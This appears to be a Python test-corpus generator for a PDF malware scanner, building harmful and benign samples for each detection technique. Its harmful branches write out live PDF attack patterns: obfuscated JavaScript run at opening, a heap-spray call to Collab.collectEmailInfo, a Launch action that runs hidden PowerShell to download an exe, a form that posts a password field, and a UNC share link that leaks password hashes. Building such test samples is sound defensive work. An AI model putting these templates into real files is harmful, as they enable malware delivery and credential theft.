"""PDF documents that act, carry files or lead astray."""

from __future__ import annotations

import zlib

from app.engine.model import Verdict
from tests.corpus.payloads import PS, payload
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, Expect, File
from tests.unit.engine.test_pdf import lzw, pdf, run_length, stream

_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %b >>"


def whole(catalog: bytes, *rest: bytes, page: bytes = b"") -> bytes:
    """Return a document of one page with these entries in its catalog and page; ``rest`` are objects from 4 on."""
    return pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", _PAGES, _PAGE % page, *rest)


def _name(draw: Draw, name: str) -> bytes:
    """Return a name of PDF with some of its letters as numbers."""
    return ("/" + "".join(f"#{ord(c):02x}" if draw.rng.random() < 0.4 else c for c in name)).encode()


def _script(draw: Draw) -> str:
    url, a = draw.url("exe"), draw.name()
    numbers = ",".join(str(ord(letter)) for letter in f"app.launchURL('{url}',true)")
    return draw.one(
        f"this.exportDataObject({{ cName: '{draw.word()}.js', nLaunch: 2 }});",
        f"var {a} = [{numbers}]; var s = ''; for (var i in {a}) s += String.fromCharCode({a}[i]); eval(s);",
        f"var {a} = unescape('%u9090%u9090%u{draw.rng.randrange(4096, 65535):04x}'); while ({a}.length < 0x40000) "
        f"{a} += {a}; this.collabStore = Collab.collectEmailInfo({{subj: '', msg: {a}}});",
        f"app.launchURL('{url}', true);",
    )


def _harmless_script(draw: Draw) -> str:
    return draw.one(
        'AFNumber_Format(2, 0, 0, 0, "EUR ", true);',
        "this.getField('total').value = this.getField('a').value * 1.19;",
        "event.value = util.printd('dd.mm.yyyy', new Date());",
    )


@technique("pdf.script_at_opening", most=Verdict.SUSPICIOUS)
def _opening(draw: Draw, harmful: bool) -> File:
    script = _script(draw) if harmful else _harmless_script(draw)
    text = script.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode()
    action = _name(draw, "OpenAction") if harmful else b"/AA"
    return File(
        f"{draw.stem()}.pdf",
        whole(action + b" << " + _name(draw, "S") + b" " + _name(draw, "JavaScript") + b" /JS (" + text + b") >>"),
    )


@technique("pdf.script_behind_filters", most=Verdict.SUSPICIOUS)
def _filtered(draw: Draw, harmful: bool) -> File:
    data = (_script(draw) if harmful else _harmless_script(draw)).encode()
    names: list[str] = []
    for _ in range(draw.rng.randint(1, 3)):
        name, pack = draw.rng.choice(
            (("FlateDecode", zlib.compress), ("ASCIIHexDecode", lambda raw: raw.hex().encode() + b">"),
             ("RunLengthDecode", run_length), ("LZWDecode", lzw))
        )  # fmt: skip
        names.insert(0, name)
        data = pack(data)
    filters = "[" + " ".join(f"/{name}" for name in names) + "]"
    body = stream(data, b"", filters.encode())
    return File(f"{draw.stem()}.pdf", whole(b"/OpenAction << /S /JavaScript /JS 4 0 R >>", body))


@technique("pdf.script_in_object_stream", most=Verdict.SUSPICIOUS)
def _object_stream(draw: Draw, harmful: bool) -> File:
    script = (_script(draw) if harmful else _harmless_script(draw)).encode().hex().encode()
    inner = b"<< /S /JavaScript /JS <" + script + b"> >>"
    packed = zlib.compress(b"9 0 " + inner)
    body = stream(packed, b"/Type /ObjStm /N 1 /First 4", b"/FlateDecode")
    return File(f"{draw.stem()}.pdf", whole(b"/OpenAction 9 0 R", body))


@technique("pdf.starts_a_program")
def _launch(draw: Draw, harmful: bool) -> File:
    command = f"/c {PS} -w hidden iwr {draw.url('exe')} -o a.exe".encode()
    start = b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /D (C:\\\\windows) /P (" + command + b") >> >>"
    return File(f"{draw.stem()}.pdf", whole(start if harmful else b"/OpenAction [3 0 R /XYZ null null 0]"))


@technique("pdf.attached_file", most=Verdict.SUSPICIOUS)
def _attached(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    name = made.name.encode("ascii", "replace")
    catalog = b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"
    if harmful and draw.rng.random() < 0.5:
        catalog += b" /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName: 'a', nLaunch: 2}\\)) >>"
    spec = b"<< /Type /Filespec /F (" + name + b") /EF << /F 5 0 R >> >>"
    body = stream(zlib.compress(made.content), b"/Type /EmbeddedFile", b"/FlateDecode")
    return File(f"{draw.stem()}.pdf", whole(catalog, spec, body))


@technique("pdf.form_that_sends", most=Verdict.SUSPICIOUS)
def _submit(draw: Draw, harmful: bool) -> File:
    url = draw.url("php").encode()
    send = b"/OpenAction << /S /SubmitForm /F (" + url + b") /Flags 4 >>"
    field = b"<< /FT /Tx /T (Password) /Ff 8192 >>" if harmful else b"<< /FT /Tx /T (Name) >>"
    return File(f"{draw.stem()}.pdf", whole((send if harmful else b"") + b" /AcroForm << /Fields [4 0 R] >>", field))


@technique("pdf.goes_to_a_share")
def _share(draw: Draw, harmful: bool) -> File:
    """Opening it signs in at a foreign share and so gives away the hash of a password."""
    target = f"\\\\\\\\{draw.host()}\\\\{draw.word()}".encode()
    action = b"/AA << /O << /S /GoToE /F (" + target + b") /D [0 /Fit] >> >>"
    if draw.rng.random() < 0.5:
        action = action.replace(b"/GoToE", b"/GoToR")
    harmless = b"/Annots [<< /Subtype /Link /A << /S /GoToR /F (appendix.pdf) /D [0 /Fit] >> >>]"
    return File(f"{draw.stem()}.pdf", whole(b"", page=action if harmful else harmless))


@technique("pdf.dynamic_form", most=Verdict.SUSPICIOUS)
def _xfa(draw: Draw, harmful: bool) -> File:
    script = _script(draw) if harmful else "this.rawValue = Sum(a, b)"
    event = '<event activity="initialize">' if harmful else '<event activity="exit">'
    form = (
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="a">'
        f'{event}<script contentType="application/x-javascript">{script}</script></event></subform></template>'
        f"</xdp:xdp>"
    )
    body = stream(zlib.compress(form.encode()), b"", b"/FlateDecode")
    return File(f"{draw.stem()}.pdf", whole(b"/AcroForm << /XFA 4 0 R >>", body))


@technique("pdf.link", expect=Expect.LINK)
def _link(draw: Draw, harmful: bool) -> File:
    """A page with one big button; the address is all there is to judge."""
    url = f"https://{draw.word()}.{draw.word()}.example/{draw.word()}/{draw.rng.randrange(10**6)}"
    note = b"/Annots [<< /Subtype /Link /Rect [0 0 595 842] /A << /S " + _name(draw, "URI") + b" /URI (" + url.encode()
    content = whole(b"", page=note + b") >> >>]")
    if draw.rng.random() < 0.5:
        inner = b"<< /S /URI /URI (" + url.encode() + b") >>"
        body = stream(zlib.compress(b"9 0 " + inner), b"/Type /ObjStm /N 1 /First 4", b"/FlateDecode")
        content = whole(b"", body, page=b"/Annots [<< /Subtype /Link /A 9 0 R >>]")
    return File(f"{draw.stem()}.pdf", content if harmful else whole(b""), link=url)
